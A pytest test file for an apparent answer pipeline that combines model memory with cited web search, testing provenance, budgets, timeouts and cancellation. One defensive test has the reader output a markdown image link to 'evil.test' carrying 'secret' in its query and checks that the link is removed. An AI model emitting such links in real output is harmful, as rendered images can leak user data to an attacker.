"""The policy: every way to an answer, every way to none, and the events on the way."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from aag_ray.answer.allowance import Degradation
from aag_ray.answer.answer import Answer, gathered
from aag_ray.answer.event import Cited, Done, Known, Remembered, Sources, Text, Understood
from aag_ray.answer.parsed import ParsedRequest, ParseOutcome
from aag_ray.answer.parser import UntrainedParser
from aag_ray.answer.parts import Unavailable
from aag_ray.answer.provenance import MemoryOutcome, Provenance, WebOutcome
from aag_ray.answer.request import AnswerRequest, Filters, Mode, Role, Turn, Wishes
from aag_ray.answer.source import SourceState
from aag_ray.config import AnswerSection, BudgetSection
from aag_ray.web.search.request import SearchRequest

QUESTION = "Which city is the capital of Peru?"
PERU = "Lima is the capital of Peru and its largest city."
Make = Callable[..., Any]


def about_peru(parts: Any) -> None:
    parts.site.says("/peru", "Peru", "Peru is a country of South America.", PERU, "Llamas live in the mountains.")
    parts.site.says("/soup", "Soup", "Soup is warm and wet.", "It is eaten with a spoon.")


async def ask(parts: Any, mode: Mode, question: str = QUESTION, **budget: Any) -> Answer:
    return await parts.policy.whole(AnswerRequest((Turn(Role.USER, question),), mode, Wishes(**budget)))


def origin(answer: Answer) -> tuple[Provenance, MemoryOutcome, WebOutcome]:
    assert answer.origin is not None, answer.failed
    return answer.origin.provenance, answer.origin.memory, answer.origin.web


def steps(answer: Answer) -> list[Degradation]:
    return [each.step for each in answer.given_up]


@pytest.mark.asyncio
class TestFromMemory:
    async def test_the_answer_is_awakened_and_the_web_is_left_alone(self, parts: Make) -> None:
        made = parts()
        made.memory.answers[QUESTION] = "Lima"
        answer = await ask(made, Mode.MEMORY)
        assert answer.text == "Lima"
        assert origin(answer) == (Provenance.FROM_MEMORY, MemoryOutcome.ANSWERED, WebOutcome.NOT_ASKED)
        assert answer.remembered is not None
        assert (answer.remembered.document, answer.remembered.adapter["rank"]) == ("It is said to be Lima.", 8)
        assert not made.site.searched
        assert not answer.sources
        assert (answer.done.usage.prompt, answer.done.usage.completion) == (16, 8)

    async def test_memory_without_an_answer_says_so(self, parts: Make) -> None:
        answer = await ask(parts(), Mode.MEMORY)
        assert origin(answer)[:2] == (Provenance.MEMORY_FAILED, MemoryOutcome.EMPTY)
        assert answer.text == "Nothing came from memory."
        assert not answer.checked.sentences

    async def test_memory_that_fails_is_a_typed_end(self, parts: Make, caplog: pytest.LogCaptureFixture) -> None:
        made = parts()
        made.memory.fails = ValueError("no weights")
        answer = await ask(made, Mode.MEMORY)
        assert origin(answer)[:2] == (Provenance.MEMORY_FAILED, MemoryOutcome.FAILED)
        assert answer.origin is not None
        assert answer.origin.detail == "memory failed; the server's log has the reason"
        assert "no weights" in caplog.text

    async def test_memory_that_refuses_work_may_be_asked_again(self, parts: Make) -> None:
        made = parts()
        made.memory.fails = Unavailable("full", 3.0)
        answer = await ask(made, Mode.MEMORY)
        assert answer.failed is not None
        assert (answer.failed.code, answer.failed.retry_after) == ("overloaded", 3.0)

    async def test_memory_that_takes_too_long_is_stopped(self, parts: Make) -> None:
        made = parts()
        made.memory.seconds = 60
        answer = await ask(made, Mode.MEMORY, seconds=0.2)
        assert origin(answer)[:2] == (Provenance.OUT_OF_TIME, MemoryOutcome.OUT_OF_TIME)
        assert made.memory.cancelled == 1


@pytest.mark.asyncio
class TestFromTheWeb:
    async def test_the_answer_is_read_from_pages_and_cited(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        answer = await ask(made, Mode.SEARCH)
        assert answer.text == PERU
        assert origin(answer) == (Provenance.FROM_PAGES, MemoryOutcome.NOT_ASKED, WebOutcome.RELEVANT)
        [citation] = answer.checked.citations
        assert (citation.url, citation.text) == (made.site.url("/peru"), PERU)
        assert answer.text[citation.start_index : citation.end_index] == PERU
        assert citation.fetched_at > 0
        assert not made.memory.asked
        assert {each.title for each in answer.sources} == {"Peru", "Soup"}

    async def test_each_source_says_how_far_it_came(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.site.pages["/empty"] = "<html><body></body></html>"
        made.site.pages["/gone"] = ""
        del made.site.pages["/gone"]
        answer = await ask(made, Mode.SEARCH)
        states = {each.url.rpartition("/")[2]: each.state for each in answer.sources}
        assert states == {
            "peru": SourceState.EVIDENCE,
            "soup": SourceState.NOTHING_RELEVANT,
            "empty": SourceState.NOT_READ,
        }

    async def test_a_page_whose_evidence_came_too_late_is_not_called_irrelevant(self, parts: Make) -> None:
        made = parts(evidence=1)
        about_peru(made)
        made.site.says("/lima", "Lima", "The capital of Peru is a city.")
        answer = await ask(made, Mode.SEARCH)
        states = {each.url.rpartition("/")[2]: each.state for each in answer.sources}
        assert sorted(states.values()) == ["evidence", "nothing_relevant", "passed_over"]
        assert states["soup"] is SourceState.NOTHING_RELEVANT
        assert all(each.detail for each in answer.sources if each.state is SourceState.PASSED_OVER)

    async def test_a_failed_search_is_told_and_nothing_is_invented(self, parts: Make) -> None:
        made = parts()
        made.site.search_status = 500
        answer = await ask(made, Mode.SEARCH)
        assert origin(answer)[0] is Provenance.SEARCH_FAILED
        assert answer.text == "The web search failed."
        assert not made.reader.asked

    async def test_a_search_without_results_is_another_thing(self, parts: Make) -> None:
        answer = await ask(parts(), Mode.SEARCH)
        assert (origin(answer)[0], answer.text) == (Provenance.NOTHING_FOUND, "The web search found nothing.")

    async def test_pages_that_cannot_be_read_are_named(self, parts: Make) -> None:
        made = parts()
        made.site.pages["/empty"] = "<html><body></body></html>"
        answer = await ask(made, Mode.SEARCH)
        assert origin(answer)[0] is Provenance.NO_PAGE_READ
        assert answer.origin is not None
        assert made.site.url("/empty") in answer.origin.detail

    async def test_pages_without_a_word_on_it_give_nothing_relevant(self, parts: Make) -> None:
        made = parts()
        made.site.says("/soup", "Soup", "Broth tastes good.")
        answer = await ask(made, Mode.SEARCH, "Who painted Guernica?")
        assert origin(answer)[0] is Provenance.NOTHING_RELEVANT
        assert not made.reader.asked

    async def test_an_extractor_that_fails_is_an_outcome(self, parts: Make) -> None:
        class Broken:
            async def extract(self, question: str, pages: Any) -> Any:
                raise ValueError("no model")

        made = parts(extractor=Broken())
        about_peru(made)
        answer = await ask(made, Mode.SEARCH)
        assert origin(answer)[::2] == (Provenance.MODEL_FAILED, WebOutcome.EXTRACTOR_FAILED)

    async def test_what_the_pages_do_not_hold_is_marked(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.reader.writes = lambda _: f"{PERU} It was founded by Napoleon in 1999."
        answer = await ask(made, Mode.SEARCH)
        assert [each.state for each in answer.checked.sentences] == ["supported", "unsupported"]
        assert answer.checked.sentences[1].missing == ("1999", "founded", "napoleon")
        assert (answer.checked.checks.supported, answer.checked.checks.unsupported) == (1, 1)

    async def test_addresses_that_are_no_sources_do_not_get_out(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.reader.writes = lambda evidence: f"See ![x](http://evil.test/?q=secret) and {evidence[0].url} for Lima."
        answer = await ask(made, Mode.SEARCH)
        assert "evil.test" not in answer.text
        assert made.site.url("/peru") in answer.text
        assert answer.done.links_removed == 1

    async def test_the_question_itself_is_searched_for_beside_the_parsers_words_once(self, parts: Make) -> None:
        class Writes(UntrainedParser):
            async def parse(self, request: AnswerRequest, today: date) -> ParsedRequest:
                own = [SearchRequest(words, language="en") for words in written]
                return replace(await super().parse(request, today), queries=tuple(own))

        for written in (["llama wool"], [QUESTION.upper()], []):
            made = parts(parser=Writes())
            made.site.searched.clear()
            about_peru(made)
            assert (await ask(made, Mode.SEARCH)).text == PERU
            asked = sorted(each["q"].casefold() for each in made.site.searched)
            assert asked == sorted({*map(str.casefold, written), QUESTION.casefold()})

    async def test_filters_reach_every_search(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        filters = Filters("de", None, ("127.0.0.1",), ("spam.test",))
        request = AnswerRequest((Turn(Role.USER, QUESTION),), Mode.SEARCH, filters=filters)
        await gathered(made.policy.answer(request))
        assert "language" in made.site.searched[0]
        assert "-site:spam.test" in made.site.searched[0]["q"]


@pytest.mark.asyncio
class TestBothWays:
    async def test_they_may_agree(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"
        answer = await ask(made, Mode.AUTO)
        assert origin(answer) == (Provenance.BOTH_AGREE, MemoryOutcome.ANSWERED, WebOutcome.RELEVANT)
        assert answer.text == PERU
        assert answer.remembered is not None
        assert answer.remembered.answer == "Lima"
        assert [spans > 0 for _, spans in made.reader.asked] == [False, True], "once from memory, once from the evidence"

    async def test_they_may_disagree_and_the_pages_are_believed(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.memory.answers[QUESTION] = "Cusco"
        answer = await ask(made, Mode.AUTO)
        assert origin(answer)[0] is Provenance.DISAGREE
        assert answer.text == PERU

    async def test_memory_stands_in_when_the_search_fails(self, parts: Make) -> None:
        made = parts()
        made.site.search_status = 500
        made.memory.answers[QUESTION] = "Lima"
        answer = await ask(made, Mode.AUTO)
        assert origin(answer) == (Provenance.FROM_MEMORY, MemoryOutcome.ANSWERED, WebOutcome.SEARCH_FAILED)
        assert (answer.text, answer.origin and answer.origin.told) == ("Lima", "From memory; the web search failed")

    async def test_without_either_there_is_no_answer(self, parts: Make) -> None:
        made = parts()
        made.site.search_status = 500
        answer = await ask(made, Mode.AUTO)
        assert origin(answer) == (Provenance.SEARCH_FAILED, MemoryOutcome.EMPTY, WebOutcome.SEARCH_FAILED)

    async def test_a_reader_that_fails_on_the_pages_leaves_memory(self, parts: Make, caplog: pytest.LogCaptureFixture) -> None:
        made = parts()
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"

        def fail(_: Any) -> str:
            raise ValueError("too long")

        made.reader.writes = fail
        answer = await ask(made, Mode.AUTO)
        assert (answer.text, origin(answer)[0]) == ("Lima", Provenance.FROM_MEMORY)
        assert answer.origin is not None
        assert answer.origin.detail == "the reader failed; the server's log has the reason"
        assert "too long" in caplog.text

    async def test_what_memory_finds_likely_is_its_answer_and_is_not_searched_for(self, parts: Make) -> None:
        made = parts(parser=UntrainedParser(threshold=0.5))
        made.memory.answers[QUESTION], made.reader.likelihood = "Lima", 0.9
        answer = await ask(made, Mode.AUTO)
        assert (answer.text, origin(answer)) == ("Lima", (Provenance.FROM_MEMORY, MemoryOutcome.ANSWERED, WebOutcome.NOT_ASKED))
        assert not made.site.searched
        assert len(made.reader.asked) == 1, "memory is read once"
        assert answer.parsed is not None
        assert answer.parsed.needed == pytest.approx(0.1)

    async def test_what_memory_finds_unlikely_is_searched_for_and_compared_without_asking_it_again(self, parts: Make) -> None:
        made = parts(parser=UntrainedParser(threshold=0.5))
        about_peru(made)
        made.memory.answers[QUESTION], made.reader.likelihood = "Lima", 0.2
        answer = await ask(made, Mode.AUTO)
        assert origin(answer) == (Provenance.BOTH_AGREE, MemoryOutcome.ANSWERED, WebOutcome.RELEVANT)
        assert made.memory.asked == [QUESTION]

    async def test_memory_that_has_nothing_leads_to_the_web(self, parts: Make) -> None:
        made = parts(parser=UntrainedParser(threshold=0.5))
        about_peru(made)
        answer = await ask(made, Mode.AUTO)
        assert origin(answer) == (Provenance.FROM_PAGES, MemoryOutcome.EMPTY, WebOutcome.RELEVANT)

    async def test_memory_that_fails_or_is_too_slow_is_not_weighed(self, parts: Make) -> None:
        for fault in ({"fails": RuntimeError("broken")}, {"seconds": 3600.0}):
            made = parts(parser=UntrainedParser(threshold=0.5))
            about_peru(made)
            for name, value in fault.items():
                setattr(made.memory, name, value)
            answer = await ask(made, Mode.AUTO, seconds=4.0)
            assert (answer.text, origin(answer)[0]) == (PERU, Provenance.FROM_PAGES)

    @pytest.mark.parametrize("mode", [Mode.SEARCH, Mode.MEMORY])
    async def test_memory_is_weighed_only_where_the_mode_leaves_the_decision_open(self, parts: Make, mode: Mode) -> None:
        class Weighed(UntrainedParser):
            async def weigh(self, parsed: ParsedRequest, today: date, likelihood: float | None) -> ParsedRequest:
                raise AssertionError("nobody asks")

        made = parts(parser=Weighed(threshold=0.5))
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"
        assert (await ask(made, mode)).text == {Mode.SEARCH: PERU, Mode.MEMORY: "Lima"}[mode]

    async def test_weighing_that_fails_leads_to_a_search(self, parts: Make) -> None:
        class Broken(UntrainedParser):
            async def weigh(self, parsed: ParsedRequest, today: date, likelihood: float | None) -> ParsedRequest:
                raise ValueError("no number")

        made = parts(parser=Broken(threshold=0.5))
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"
        answer = await ask(made, Mode.AUTO)
        assert origin(answer)[0] is Provenance.BOTH_AGREE
        assert answer.parsed is not None
        assert answer.parsed.outcome is ParseOutcome.FELL_BACK

    async def test_memorys_answer_that_a_budget_cut_says_so(self, parts: Make) -> None:
        made = parts(parser=UntrainedParser(threshold=0.5))
        made.memory.answers[QUESTION], made.reader.likelihood = "Lima on the coast of Peru", 0.9
        answer = await ask(made, Mode.AUTO, answer_tokens=2)
        assert (answer.text, answer.done.cut) == ("Lima on", True)


@pytest.mark.asyncio
class TestEvents:
    async def test_sources_come_first_and_the_end_comes_last(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"
        events = [event async for event in made.policy.answer(AnswerRequest.asking(QUESTION))]
        kinds = [type(event) for event in events]
        assert kinds[:4] == [Understood, Sources, Sources, Remembered]
        assert kinds[-3:] == [Cited, Known, Done]
        assert set(kinds[4:-3]) == {Text}
        read = [(event.read, event.outcome) for event in events if isinstance(event, Sources)]
        assert read == [(False, WebOutcome.NOT_ASKED), (True, WebOutcome.RELEVANT)]

    async def test_what_the_parser_read_and_wrote_is_used_too(self, parts: Make) -> None:
        class Writing(UntrainedParser):
            async def parse(self, request: AnswerRequest, today: date) -> ParsedRequest:
                return replace(await super().parse(request, today), prompt_tokens=100, new_tokens=10)

            async def weigh(self, parsed: ParsedRequest, today: date, likelihood: float | None) -> ParsedRequest:
                return replace(parsed, search=False, prompt_tokens=300, new_tokens=30)

        made = parts(parser=Writing(threshold=0.5))
        made.memory.answers[QUESTION] = "Lima"
        used = (await ask(made, Mode.AUTO)).done.usage
        assert (used.prompt, used.completion) == (300 + 16, 30 + 8)

    async def test_every_stage_is_timed(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        answer = await ask(made, Mode.AUTO)
        stages = {
            "parse",
            "search",
            "fetch",
            "rank",
            "extract",
            "memory",
            "read",
            "verify",
            "total",
            "first_source",
            "first_token",
        }
        assert stages <= set(answer.done.seconds)
        assert answer.done.seconds["total"] >= answer.done.seconds["first_token"] >= answer.done.seconds["first_source"] >= 0

    async def test_a_reader_that_breaks_off_ends_in_a_failure(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.reader.fails, made.reader.fails_after = RuntimeError("out of memory"), 3
        answer = await ask(made, Mode.SEARCH)
        assert answer.failed is not None
        assert answer.failed.code == "internal"
        assert answer.text

    async def test_a_parser_that_fails_searches_with_the_raw_question(
        self, parts: Make, caplog: pytest.LogCaptureFixture
    ) -> None:
        class Broken(UntrainedParser):
            async def parse(self, request: AnswerRequest, today: date) -> ParsedRequest:
                raise ValueError("no grammar")

        made = parts(parser=Broken())
        about_peru(made)
        answer = await ask(made, Mode.AUTO)
        assert answer.parsed is not None
        assert answer.parsed.outcome is ParseOutcome.FELL_BACK
        assert answer.parsed.detail == "the parser failed; the server's log has the reason"
        assert "no grammar" in caplog.text
        assert made.site.searched[0]["q"] == QUESTION
        assert answer.text == PERU

    async def test_a_follow_up_is_asked_on_its_own(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        turns = (Turn(Role.USER, QUESTION), Turn(Role.ASSISTANT, "Lima."), Turn(Role.USER, "How large is it?"))
        answer = await gathered(made.policy.answer(AnswerRequest(turns, Mode.SEARCH)))
        assert answer.parsed is not None
        assert answer.parsed.question == f"{QUESTION} Lima. How large is it?"


@pytest.mark.asyncio
class TestBudget:
    async def test_pages_are_asked_for_up_to_the_budget(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        answer = await ask(made, Mode.SEARCH, pages=1)
        assert len(made.site.asked) == len(answer.sources) == 1

    async def test_a_page_that_does_not_come_in_time_is_done_without(self, parts: Make) -> None:
        made = parts(page_seconds=0.5)
        about_peru(made)
        made.site.says("/slow", "Slow", PERU)
        made.site.never.add("/slow")
        answer = await ask(made, Mode.SEARCH)
        assert answer.text == PERU
        slow = next(each for each in answer.sources if each.url.endswith("/slow"))
        assert slow.state is SourceState.NOT_FETCHED

    async def test_evidence_is_cut_to_its_tokens(self, parts: Make) -> None:
        made = parts()
        made.site.says("/peru", "Peru", PERU, "The capital of Peru is a city.", "The city is the capital of Peru since 1535.")
        answer = await ask(made, Mode.SEARCH, tokens=16)
        assert Degradation.LESS_EVIDENCE in steps(answer)
        assert answer.done.usage.evidence <= 16

    async def test_memory_that_is_late_is_not_compared(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.memory.seconds = 60
        answer = await ask(made, Mode.AUTO, seconds=2.0)
        assert origin(answer) == (Provenance.FROM_PAGES, MemoryOutcome.OUT_OF_TIME, WebOutcome.RELEVANT)
        assert steps(answer) == [Degradation.NO_COMPARISON]
        assert made.memory.cancelled == 1

    async def test_a_web_that_is_late_leaves_memory(self, parts: Make) -> None:
        class Slow:
            async def extract(self, question: str, pages: Any) -> Any:
                await asyncio.sleep(3600)

        made = parts(extractor=Slow())
        about_peru(made)
        made.memory.answers[QUESTION] = "Lima"
        answer = await ask(made, Mode.AUTO, seconds=1.5)
        assert origin(answer) == (Provenance.FROM_MEMORY, MemoryOutcome.ANSWERED, WebOutcome.OUT_OF_TIME)
        assert steps(answer) == [Degradation.MEMORY_ONLY]

    async def test_an_answer_ends_where_its_tokens_do(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        answer = await ask(made, Mode.SEARCH, answer_tokens=3)
        assert answer.text == "Lima is the"
        assert answer.done.cut
        assert steps(answer) == [Degradation.SHORT_ANSWER]

    async def test_an_answer_ends_where_its_time_does(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        made.reader.stops_after = 2
        answer = await ask(made, Mode.SEARCH, seconds=2.0)
        assert answer.text.split() == ["Lima", "is"]
        assert (answer.done.cut, steps(answer)) == (True, [Degradation.SHORT_ANSWER])
        assert made.reader.closed == 1

    async def test_other_thresholds_count_from_the_next_request(self, parts: Make) -> None:
        made = parts()
        about_peru(made)
        events = made.policy.answer(AnswerRequest.asking(QUESTION, Mode.SEARCH))
        await anext(events)
        made.policy.configure(AnswerSection(budget=BudgetSection(pages=1, answer_tokens=2), evidence=1))
        before, after = await gathered(events), await ask(made, Mode.SEARCH)
        assert (len(before.sources), before.text) == (2, PERU)
        assert (len(after.sources), after.text) == (1, "Lima is")
        assert (await ask(made, Mode.SEARCH, answer_tokens=9)).text == "Lima is"


def own_tasks() -> set[asyncio.Task[Any]]:
    """Tasks of this project's code; a kept-alive connection of the site has its own."""
    made = {task: getattr(task.get_coro(), "cr_code", None) for task in asyncio.all_tasks()}
    return {task for task, code in made.items() if code is not None and "aag_ray/answer" in code.co_filename}


@pytest.mark.asyncio
class TestLeaving:
    @pytest.fixture(params=["memory", "reader"])
    def waiting(self, request: pytest.FixtureRequest, parts: Make) -> Any:
        made = parts()
        about_peru(made)
        if request.param == "memory":
            made.memory.seconds = 3600
        else:
            made.reader.stops_after = 1
            made.memory.answers[QUESTION] = "Lima"
        return made

    async def test_closing_the_events_ends_all_work_below(self, waiting: Any) -> None:
        events = waiting.policy.answer(AnswerRequest.asking(QUESTION))
        async for event in events:
            if isinstance(event, Sources) and event.read:
                break
        await events.aclose()
        assert not own_tasks()
        assert waiting.memory.cancelled == 1 or waiting.reader.closed >= 1

    async def test_cancelling_the_task_does_too(self, waiting: Any) -> None:
        task = asyncio.create_task(waiting.policy.whole(AnswerRequest.asking(QUESTION)))
        while not waiting.site.asked:
            await asyncio.sleep(0.01)
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        assert task.cancelled()
        assert not own_tasks()
